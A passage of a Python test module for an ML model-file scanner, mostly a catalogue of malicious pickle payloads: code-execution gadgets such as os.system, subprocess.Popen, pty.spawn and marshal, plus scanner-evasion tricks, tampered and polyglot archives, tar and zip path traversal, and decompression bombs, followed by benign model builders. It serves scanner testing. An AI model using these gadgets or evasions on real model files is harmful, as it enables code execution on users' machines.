        "torch.utils.collect_env.run(shell command)",
        _gadget("torch.utils.collect_env", "run", _cmd),
        gadget="torch.utils.collect_env.run",
        source="google/saferpickle#18",
    ),
    Payload(
        "numpy-testing-runstring",
        "numpy.testing._private.utils.runstring -> exec",
        _gadget("numpy.testing._private.utils", "runstring", lambda m: (u(py_open(m)), dct())),
        gadget="numpy.testing._private.utils.runstring",
    ),
    Payload(
        "asyncio-create-subprocess-shell",
        "asyncio.run(create_subprocess_shell(cmd))",
        _asyncio,
        gadget="asyncio.create_subprocess_shell",
        source="CVE-2025-10157",
    ),
    Payload(
        "posixsubprocess-fork-exec",
        "_posixsubprocess.fork_exec",
        _fork_exec,
        gadget="_posixsubprocess.fork_exec",
    ),
    Payload(
        "multiprocessing-spawnv-passfds",
        "multiprocessing.util.spawnv_passfds",
        _gadget(
            "multiprocessing.util",
            "spawnv_passfds",
            lambda m: (by(b"/usr/bin/touch"), lst(u("touch"), u(str(m))), EMPTY_TUPLE),
        ),
        gadget="multiprocessing.util.spawnv_passfds",
        source="google/saferpickle#18",
    ),
    Payload(
        "runpy-run-code",
        "runpy._run_code(source, {})",
        _gadget("runpy", "_run_code", lambda m: (u(py_open(m)), dct())),
        gadget="runpy._run_code",
    ),
    Payload(
        "ctypes-cdll-system",
        "getattr(ctypes.CDLL(None), 'system')",
        _ctypes,
        gadget="ctypes.CDLL",
        rules=("SC008",),
    ),
    Payload(
        "webbrowser-generic-browser",
        "webbrowser.GenericBrowser(['touch','%s']).open",
        _generic_browser,
        gadget="webbrowser.GenericBrowser.open",
    ),
    Payload(
        "shutil-copyfile",
        "shutil.copyfile('/dev/null', marker)",
        _gadget("shutil", "copyfile", lambda m: (u(os.devnull), u(str(m)))),
        gadget="shutil.copyfile",
        source="CVE-2025-10155",
    ),
    Payload(
        "io-open",
        "io.open(marker, 'w')",
        _gadget("io", "open", lambda m: (u(str(m)), u("w"))),
        gadget="io.open",
    ),
    Payload(
        "_io-fileio",
        "_io.FileIO(marker, 'w') (leading underscore)",
        _gadget("_io", "FileIO", lambda m: (u(str(m)), u("w"))),
        gadget="_io.FileIO",
        source="CVE-2025-10156",
    ),
    Payload(
        "types-functiontype-marshal",
        "types.FunctionType(marshal.loads(code), {})()",
        _function_type,
        gadget="marshal.loads",
        rules=("SC008",),
    ),
    Payload(
        "_pickle-loads-nested",
        "_pickle.loads of a nested pickle",
        _nested_pickle("_pickle"),
        gadget="_pickle.loads",
        source="GHSA-84r2-jw7c-4r5q",
    ),
    Payload(
        "pickle-loads-nested",
        "pickle.loads of a nested pickle",
        _nested_pickle("pickle"),
        gadget="pickle.loads",
        source="modelscan#267",
    ),
    Payload(
        "pty-spawn-obj",
        "pty.spawn via OBJ (fickling#108)",
        _pty_obj,
        gadget="pty.spawn",
        source="fickling#108",
    ),
    Payload(
        "uuid-get-command-stdout",
        "uuid._get_command_stdout('touch', marker)",
        _gadget("uuid", "_get_command_stdout", lambda m: (u("touch"), u(str(m)))),
        gadget="uuid._get_command_stdout",
        source="promptfoo/modelaudit#581",
    ),
    Payload(
        "imaplib-imap4-stream",
        "imaplib.IMAP4_stream(command) spawns a shell",
        _gadget("imaplib", "IMAP4_stream", _cmd),
        gadget="imaplib.IMAP4_stream",
    ),
    Payload(
        "py2-cstringio-open",
        "cStringIO.open: protocol <= 2 maps cStringIO to io",
        _gadget("cStringIO", "open", lambda m: (u(str(m)), u("w"))),
        gadget="io.open",
        source="CPython Lib/_compat_pickle.py IMPORT_MAPPING",
    ),
    Payload(
        "logging-filehandler",
        "logging.FileHandler(marker) creates the file",
        _gadget("logging", "FileHandler", lambda m: (u(str(m)),)),
    ),
    # opcode-level tricks
    Payload(
        "memo-binput-binget",
        "STACK_GLOBAL names fed from the memo (BINPUT/BINGET)",
        _memo,
        gadget="os.system",
        source="picklescan#22",
    ),
    Payload(
        "memo-memoize-get",
        "STACK_GLOBAL names from MEMOIZE / protocol-0 GET",
        _memoize_get,
        gadget="posix.system",
    ),
    Payload(
        "memo-overwrite",
        "a memo slot rewritten before it is read",
        _memo_overwrite,
        gadget="os.system",
    ),
    Payload(
        "stack-global-computed-name",
        "STACK_GLOBAL of a name returned by a call",
        _computed_name,
        rules=("SC003",),
    ),
    Payload("inst-opcode", "INST imports and calls in one opcode", _inst, gadget="os.system"),
    Payload("obj-opcode", "OBJ calls the class under the mark", _obj, gadget="os.system"),
    Payload(
        "newobj-functiontype",
        "NEWOBJ types.FunctionType(code, {})",
        _newobj,
        gadget="types.FunctionType",
    ),
    Payload(
        "newobj-ex-functiontype",
        "NEWOBJ_EX types.FunctionType(code, {}, **{})",
        _newobj_ex,
        gadget="types.FunctionType",
    ),
    Payload(
        "build-on-imported-class",
        "BUILD plants __setstate__ on an imported class",
        _build_on_import,
        rules=("SC008",),
    ),
    Payload("ext1-code", "EXT1 extension code", _ext(1), loader="registry", rules=("SC004",)),
    Payload("ext2-code", "EXT2 extension code", _ext(300), loader="registry", rules=("SC004",)),
    Payload("ext4-code", "EXT4 extension code", _ext(70000), loader="registry", rules=("SC004",)),
    *(
        Payload(
            f"protocol-{p}",
            f"pickle.dumps protocol {p}" + (" (FRAME)" if p >= 4 else ""),
            _protocol(p),
            gadget="posix.system",
        )
        for p in range(6)
    ),
    Payload(
        "protocol-0-handwritten",
        "hand-written protocol-0 text pickle",
        _text_p0,
        filename="model.txt",
        gadget="os.system",
        source=_JF,
    ),
    Payload(
        "two-streams",
        "benign stream, then the payload in a second stream",
        _two_streams,
        gadget="posix.system",
        source="promptfoo/modelaudit#581",
    ),
    Payload(
        "payload-then-parse-error",
        "payload, then an invalid opcode",
        _parse_error,
        gadget="os.system",
        rules=("SC005",),
        source="GHSA-9gvj-pp9x-gcfr",
    ),
    Payload(
        "payload-then-truncation",
        "payload, then the stream is cut",
        _truncated,
        gadget="os.system",
        rules=("SC005",),
    ),
    Payload(
        "protocol-0-then-parse-error",
        "printable protocol-0 payload, then a byte that is not an opcode",
        _text_parse_error,
        filename="model.bin",
        gadget="os.system",
        rules=("SC005",),
    ),
    Payload(
        "protocol-0-truncated",
        "printable protocol-0 payload without its STOP",
        _text_truncated,
        filename="model.bin",
        gadget="os.system",
        rules=("SC005",),
    ),
    Payload(
        "unlisted-first-opcode",
        "printable pickle opening with SHORT_BINSTRING, no PROTO",
        _unlisted_first_opcode,
        filename="model.bin",
        gadget="os.system",
        source=_JF,
    ),
    Payload(
        "second-stream-unlisted-opcode",
        "payload stream opening with SHORT_BINSTRING",
        _second_stream_unlisted,
        gadget="os.system",
    ),
    Payload(
        "dotted-global-pandas-subprocess",
        "GLOBAL pandas._config.localization subprocess.Popen (protocol 4 walks the dotted name)",
        _dotted_through_allowed(
            "pandas._config.localization", "subprocess.Popen", lambda m: lst(u("touch"), u(str(m)))
        ),
        gadget="subprocess.Popen",
    ),
    Payload(
        "dotted-global-sklearn-logging",
        "GLOBAL sklearn logging.FileHandler (dotted)",
        _dotted_through_allowed("sklearn", "logging.FileHandler", lambda m: u(str(m))),
    ),
    Payload(
        "joblib-array-bytes-are-opcodes",
        "joblib array wrapper whose raw bytes are opcodes (pickle.load runs them)",
        _joblib_region_opcodes,
        gadget="os.system",
    ),
    # compressed and joblib files
    *(
        Payload(
            f"joblib-{c}",
            f"joblib.dump(compress='{c}')",
            _joblib((c, 3)),
            filename=f"model.joblib.{c}",
            loader="joblib",
            gadget="posix.system",
        )
        for c in ("zlib", "gzip", "bz2", "lzma", "xz")
    ),
    Payload(
        "joblib-object-array",
        "joblib object array (a pickle nested in the stream)",
        _joblib_object_array,
        filename="model.joblib",
        loader="joblib",
        gadget="posix.system",
    ),
    Payload(
        "joblib-zf-prefix",
        "joblib < 0.10 'ZF' z-file",
        _joblib_zf,
        filename="model.joblib",
        loader="joblib",
        gadget="posix.system",
    ),
    Payload(
        "joblib-lzma-small-dict",
        "lzma joblib file with a 4 KiB dictionary",
        _joblib_lzma_small_dict,
        filename="model.joblib",
        loader="joblib",
        gadget="posix.system",
    ),
    *(
        Payload(
            f"compressed-{k}",
            f"{k}-compressed pickle",
            _compressed(k),
            filename=f"model.pkl.{k}",
            loader="decompress",
            gadget="posix.system",
        )
        for k in ("gzip", "bz2", "xz")
    ),
    # torch archives and zip tricks
    Payload(
        "torch-zip",
        "torch.save archive with a malicious data.pkl",
        _torch_payload,
        filename="model.pt",
        loader="torch",
        gadget="posix.system",
    ),
    Payload(
        "torch-zip-renamed-bin",
        "torch archive saved as .bin",
        _torch_payload,
        filename="pytorch_model.bin",
        loader="torch",
        gadget="posix.system",
        source="GHSA-769v-p64c-89pr",
    ),
    Payload(
        "torch-zip-renamed-txt",
        "torch archive saved as .txt",
        _torch_payload,
        filename="notes.txt",
        loader="torch",
        gadget="posix.system",
    ),
    Payload(
        "torch-legacy",
        "torch.save(_use_new_zipfile_serialization=False)",
        _torch_legacy,
        filename="model.pt",
        loader="torch",
        gadget="posix.system",
    ),
    Payload(
        "zip-other-member",
        "pickle under another member name",
        _zip_other_member,
        filename="model.zip",
        loader="zipfile",
        gadget="posix.system",
    ),
    Payload(
        "zip-local-name-mismatch",
        "local header names another file",
        _zip_local_name,
        filename="model.pt",
        loader="torch",
        rules=("SC013",),
        source=_C,
    ),
    Payload(
        "zip-encrypted-flag-local",
        "encrypted flag bit in data.pkl's local header only",
        _zip_flag(0x1, central=False),
        filename="model.pt",
        loader="torch",
        gadget="posix.system",
        source=_C,
    ),
    Payload(
        "zip-encrypted-flag",
        "encrypted flag bit on data.pkl (central directory too; "
        "torch refuses it, lenient readers do not)",
        _zip_flag(0x1),
        filename="model.pt",
        loader="none",
        rules=("SC013",),
        source=_C,
    ),
    Payload(
        "zip-patched-data-flag",
        "flag bit 5 ('compressed patched data') on data.pkl",
        _zip_flag(0x20),
        filename="model.pt",
        loader="none",
    ),
    Payload(
        "zip-strong-encryption-flag",
        "flag bit 6 ('strong encryption') on data.pkl",
        _zip_flag(0x40),
        filename="model.pt",
        loader="none",
    ),
    Payload(
        "zip-bad-crc",
        "data.pkl's CRC-32 is wrong",
        _zip_bad_crc,
        filename="model.pt",
        loader="torch",
        gadget="posix.system",
        rules=("SC014",),
        source=_JF,
    ),
    Payload(
        "zip-pickle-without-proto",
        "torch data.pkl opening without PROTO",
        _zip_pickle_no_proto,
        filename="model.pt",
        loader="torch",
        gadget="os.system",
    ),
    Payload(
        "zip-in-zip",
        "a zip nested in a zip",
        _zip_in_zip,
        filename="bundle.zip",
        loader="zipfile",
        gadget="posix.system",
    ),
    Payload(
        "tar-pickle",
        "a tar holding a pickle",
        _tar_pickle,
        filename="model.tar",
        loader="tarfile",
        gadget="posix.system",
    ),
    Payload(
        "tar-without-magic",
        "a tar without the 'ustar' magic (v7 headers)",
        _tar_no_magic,
        filename="model.tar",
        loader="tarfile",
        gadget="posix.system",
    ),
    Payload(
        "tar-traversal",
        "tar member '../marker'",
        _tar_traversal,
        filename="model.tar",
        loader="extract",
        rules=("SC010",),
        source="CVE-2007-4559",
    ),
    Payload(
        "tar-absolute",
        "tar member with an absolute path",
        _tar_absolute,
        filename="model.tar",
        loader="extract",
        rules=("SC010",),
    ),
    Payload(
        "tar-symlink",
        "tar symlink out of the folder, then a file through it",
        _tar_symlink,
        filename="model.tar",
        loader="extract",
        rules=("SC015",),
    ),
    Payload(
        "zip-traversal",
        "zip member '../marker'",
        _zip_traversal,
        filename="model.zip",
        loader="extract",
        rules=("SC010",),
    ),
    Payload(
        "zip-absolute",
        "zip member with an absolute path",
        _zip_absolute,
        filename="model.zip",
        loader="extract",
        rules=("SC010",),
    ),
    Payload(
        "npy-object-array",
        "np.save of an object array",
        _npy_object,
        filename="x.npy",
        loader="numpy",
        gadget="posix.system",
    ),
    Payload(
        "npy-descr-object-spelled-out",
        "object .npy whose header says 'object'",
        _npy_descr_spelled_out,
        filename="x.npy",
        loader="numpy",
        gadget="posix.system",
    ),
    Payload(
        "npz-object-array",
        ".npz holding an object .npy",
        _npz,
        filename="x.npz",
        loader="numpy",
        gadget="posix.system",
    ),
    Payload(
        "polyglot-pickle-then-zip",
        "malicious pickle + clean torch zip",
        _polyglot_pickle_first,
        filename="model.pt",
        loader="torch",
        gadget="posix.system",
        rules=("SC013",),
    ),
    Payload(
        "polyglot-zip-at-end",
        "clean pickle + malicious zip found from the end",
        _polyglot_zip_last,
        filename="model.pt",
        loader="zipfile",
        gadget="posix.system",
        rules=("SC013",),
    ),
    # resource exhaustion (scanned with small limits)
    Payload(
        "gzip-bomb",
        "gzip of 8 MiB of zeros (1000x)",
        _gzip_bomb,
        filename="x.pkl.gz",
        loader="none",
        rules=("SC011",),
        dos=True,
    ),
    Payload(
        "zip-bomb",
        "deflated 8 MiB member",
        _zip_bomb,
        filename="x.pt",
        loader="none",
        rules=("SC011",),
        dos=True,
    ),
]


# -- benign builders ----------------------------------------------------------------------------
def _quiet(fn: Callable[[], Any]) -> Any:
    """Run ``fn`` with warnings silenced (convergence and deprecation warnings of the
    libraries are no concern of a scanner test; pytest turns warnings into errors)."""
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return fn()


def _sklearn_models() -> dict[str, Any]:
    import pandas as pd
    from sklearn.calibration import CalibratedClassifierCV
    from sklearn.cluster import KMeans
    from sklearn.compose import ColumnTransformer
    from sklearn.datasets import load_breast_cancer, load_diabetes
    from sklearn.decomposition import PCA
    from sklearn.ensemble import (
        GradientBoostingRegressor,
        HistGradientBoostingClassifier,
        RandomForestClassifier,
    )
    from sklearn.linear_model import LogisticRegression
    from sklearn.naive_bayes import GaussianNB
    from sklearn.neighbors import KNeighborsClassifier
    from sklearn.neural_network import MLPClassifier
    from sklearn.pipeline import Pipeline, make_pipeline
    from sklearn.preprocessing import FunctionTransformer, OneHotEncoder, StandardScaler
    from sklearn.svm import SVC
    from sklearn.tree import DecisionTreeClassifier

    X, y = load_breast_cancer(return_X_y=True)
    X, y = X[:200], y[:200]
    Xd, yd = load_diabetes(return_X_y=True)
    frame = pd.DataFrame(X[:, :3], columns=["a", "b", "c"])
    frame["site"] = pd.Categorical(np.where(X[:, 3] > np.median(X[:, 3]), "north", "south"))
    mixed = Pipeline(
        [
            (
                "prep",
                ColumnTransformer(
                    [
                        ("num", StandardScaler(), ["a", "b", "c"]),
                        ("cat", OneHotEncoder(handle_unknown="ignore"), ["site"]),
                    ]
                ),
            ),
            ("clf", LogisticRegression(max_iter=200)),
        ]
    )

    def fit() -> dict[str, Any]:
        return {
            "logreg": LogisticRegression(max_iter=200).fit(X, y),
            "random-forest": RandomForestClassifier(5, max_depth=4, random_state=0).fit(X, y),
            "tree": DecisionTreeClassifier(max_depth=4, random_state=0).fit(X, y),
            "pipeline-svc": make_pipeline(StandardScaler(), SVC()).fit(X, y),
            "column-transformer": mixed.fit(frame, y),
            "hist-gradient-boosting": HistGradientBoostingClassifier(
                max_iter=10, random_state=0
            ).fit(X, y),
            "calibrated": CalibratedClassifierCV(GaussianNB(), cv=3).fit(X, y),
            "knn": KNeighborsClassifier(3, algorithm="kd_tree").fit(X, y),
            "pca-kmeans": make_pipeline(
                PCA(2, random_state=0), KMeans(3, n_init=1, random_state=0)
            ).fit(X),
            "function-transformer": make_pipeline(
                FunctionTransformer(np.log1p), LogisticRegression(max_iter=200)
            ).fit(X, y),
            "gradient-boosting-regressor": GradientBoostingRegressor(
                n_estimators=5, random_state=0
            ).fit(Xd, yd),
            "mlp": MLPClassifier((8,), max_iter=20, random_state=0).fit(X, y),
        }

    from threadpoolctl import threadpool_limits

    # one thread: OpenMP / BLAS pools are slow to start and fight over a busy CI machine
    with threadpool_limits(limits=1):
        out: dict[str, Any] = _quiet(fit)
    return out


def _numpy_values() -> dict[str, Any]:
    rng = np.random.default_rng(0)
    structured = np.zeros(3, dtype=[("id", "<i4"), ("score", "<f8"), ("name", "U8")])
    legacy = np.random.RandomState(0)
    legacy.rand(3)
    return {
        "float-array": rng.random((20, 5)),
        # 80 KB: protocol 0 writes its bytes as one ~200 KB text line
        "float-array-80kb": rng.random(10_000),
        "int-array": np.arange(100, dtype=np.int64).reshape(10, 10),
        "object-array": np.array(["a", 1, None, 2.5, ("t", 1)], dtype=object),
        "structured-array": structured,
        "datetime-array": np.array(["2024-01-01", "2025-06-30"], dtype="datetime64[ns]"),
        "masked-array": np.ma.masked_array([1.0, 2.0, 3.0], mask=[0, 1, 0]),
        "random-state": legacy,
        "generator": np.random.Generator(np.random.PCG64(0)),
        "scalars": {"f": np.float32(1.5), "i": np.int64(3), "b": np.bool_(True)},
    }


def _pandas_values() -> dict[str, Any]:
    import pandas as pd

    frame = pd.DataFrame(
        {
            "category": pd.Categorical(["a", "b", "a", "c"]),
            "when": pd.to_datetime(["2024-01-01", "2024-02-01", "2024-03-01", "2024-04-01"]),
            "when_tz": pd.date_range("2024-01-01", periods=4, freq="D", tz="Europe/Paris"),
            "text": ["alpha", "beta", None, "delta"],
            "count": [1, 2, 3, 4],
            "score": [0.5, 1.5, np.nan, 2.5],
            "flag": [True, False, True, False],
            "delta": pd.to_timedelta([1, 2, 3, 4], unit="h"),
        }
    )
    index = pd.MultiIndex.from_product([["x", "y"], [1, 2]], names=["group", "step"])
    return {
        "dataframe": frame,
        "multiindex-frame": pd.DataFrame({"v": [1.0, 2.0, 3.0, 4.0]}, index=index),
        "series-string": pd.Series(["a", "b", "c"], dtype="string", name="s"),
        "series-float": pd.Series(np.linspace(0, 1, 5), index=list("abcde")),
    }


_VALUES: dict[str, Any] = {}


def _value(name: str) -> Any:
    if not _VALUES:
        for prefix, values in (
            ("sklearn", _sklearn_models()),
            ("numpy", _numpy_values()),
            ("pandas", _pandas_values()),
        ):
            for key, value in values.items():
                _VALUES[f"{prefix}-{key}"] = value
    return _VALUES[name]


def _pickled(name: str, protocol: int) -> Callable[[], bytes]:
    return lambda: pickle.dumps(_value(name), protocol=protocol)


def _joblibbed(name: str, compress: Any) -> Callable[[], bytes]:
    def build() -> bytes:
        import joblib

        buf = io.BytesIO()
        _quiet(lambda: joblib.dump(_value(name), buf, compress=compress))
        return buf.getvalue()

    return build


def _torch_benign(kind: str, legacy: bool) -> Callable[[], bytes]:
    def build() -> bytes:
        import torch

        torch.manual_seed(0)
        if kind == "tensor-128":
            # the legacy format writes each storage's element count (8 bytes) after its five
            # pickles: 128 starts with 0x80 0x00, which looks like PROTO 0
            return _torch_zip({"w": torch.zeros(128)}, _use_new_zipfile_serialization=not legacy)
        # storage sizes 96, 12, 24, 2, 1: none of their first bytes is an opcode, so the
        # legacy file scans the same whatever order torch writes the storages in
        net = torch.nn.Sequential(
            torch.nn.Linear(8, 12),
            torch.nn.ReLU(),
            torch.nn.BatchNorm1d(12),
            torch.nn.Linear(12, 2),
        )
        obj = net.state_dict() if kind == "state-dict" else net
        return _torch_zip(obj, _use_new_zipfile_serialization=not legacy)

    return build


_VALUE_NAMES = (
    *(
        f"sklearn-{k}"
        for k in (
            "logreg",
            "random-forest",
            "tree",
            "pipeline-svc",
            "column-transformer",
            "hist-gradient-boosting",
            "calibrated",
            "knn",
            "pca-kmeans",
            "function-transformer",
            "gradient-boosting-regressor",
            "mlp",
        )
    ),
    *(
        f"numpy-{k}"
        for k in (
            "float-array",
            "float-array-80kb",
            "int-array",
            "object-array",
            "structured-array",
            "datetime-array",
            "masked-array",
            "random-state",
            "generator",
            "scalars",
        )
    ),
    *(f"pandas-{k}" for k in ("dataframe", "multiindex-frame", "series-string", "series-float")),
)
_JOBLIB = {"joblib": 0, **{f"joblib-{c}": (c, 3) for c in ("zlib", "gzip", "bz2", "lzma", "xz")}}

BENIGN: list[Benign] = [
    *(
        Benign(f"{name}/pickle-p{p}", _pickled(name, p), tags=(name.split("-")[0], "pickle"))
        for name in _VALUE_NAMES
        for p in range(6)
    ),
    *(
        Benign(
            f"{name}/{how}",
            _joblibbed(name, compress),
            filename="model.joblib",
            tags=(name.split("-")[0], "joblib"),
        )
        for name in _VALUE_NAMES
        for how, compress in _JOBLIB.items()
    ),
    *(
        Benign(
            f"torch-{kind}/{'legacy' if legacy else 'zip'}",
            _torch_benign(kind, legacy),
            filename="model.pt",
            tags=("torch",),
        )
        for kind in ("state-dict", "module", "tensor-128")
        for legacy in (False, True)
    ),
]
